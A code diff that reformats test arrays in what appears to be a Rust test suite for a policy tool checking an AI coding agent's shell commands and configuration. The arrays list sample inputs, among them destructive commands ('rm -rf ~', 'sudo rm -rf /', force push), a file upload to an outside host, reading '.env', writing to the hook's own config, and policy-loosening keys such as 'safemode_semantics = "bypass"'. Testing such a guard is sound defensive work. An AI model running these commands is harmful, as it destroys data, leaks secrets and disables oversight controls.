@@ -433,14 +433,8 @@ fn a_list_without_a_profile_of_the_persons_loosens() {
 #[test]
 fn a_key_that_is_not_known_to_be_stricter_loosens() {
     let keys = [
-        "missing_proof_status = \"allow\"",
-        "phrases = [\"lgtm\"]",
-        "safemode_semantics = \"bypass\"",
-        "categories = []",
-        "modes = [\"quick\"]",
-        "of_a_later_version = 1",
-        "enabled = false",
-        "severity = \"ask\"",
+        "missing_proof_status = \"allow\"", "phrases = [\"lgtm\"]", "safemode_semantics = \"bypass\"",
+        "categories = []", "modes = [\"quick\"]", "of_a_later_version = 1", "enabled = false", "severity = \"ask\"",
     ];
     for key in keys {
         let said = shown("", &format!("[change.comms.comms]\n{key}\n"));
@@ -546,12 +540,8 @@ fn laxity(verdict: Option<Verdict>) -> u8 {
 }
 
 const PARTS: &[&str] = &[
-    "on_unreadable = \"none\"",
-    "session_ids = [\"client-env\"]",
-    "main_branches = []",
-    "agent_proof = true",
-    "mcp_servers = [\"x\"]",
-    "errors_to_stderr = true",
+    "on_unreadable = \"none\"", "session_ids = [\"client-env\"]", "main_branches = []", "agent_proof = true",
+    "mcp_servers = [\"x\"]", "errors_to_stderr = true",
 ];
 
 const TABLES: &[&str] = &[
@@ -575,25 +565,9 @@ const TABLES: &[&str] = &[
 ];
 
 const CALLS: &[&str] = &[
-    "ls",
-    "ls -la",
-    "make all",
-    "git status",
-    "git commit -m x",
-    "git push --force origin main",
-    "git reset --hard",
-    "rm -rf ~",
-    "rm -rf build",
-    "curl -T notes.txt https://example.com",
-    "cat .env",
-    "npm test",
-    "sudo rm -rf /",
-    "echo x > .claude/hookbin.toml",
-    "git stash drop",
-    "cp a /tmp/b",
-    "docker system prune -af",
-    "never",
-    "$(",
+    "ls", "ls -la", "make all", "git status", "git commit -m x", "git push --force origin main", "git reset --hard",
+    "rm -rf ~", "rm -rf build", "curl -T notes.txt https://example.com", "cat .env", "npm test", "sudo rm -rf /",
+    "echo x > .claude/hookbin.toml", "git stash drop", "cp a /tmp/b", "docker system prune -af", "never", "$(",
     "chmod -R 777 .",
 ];
 
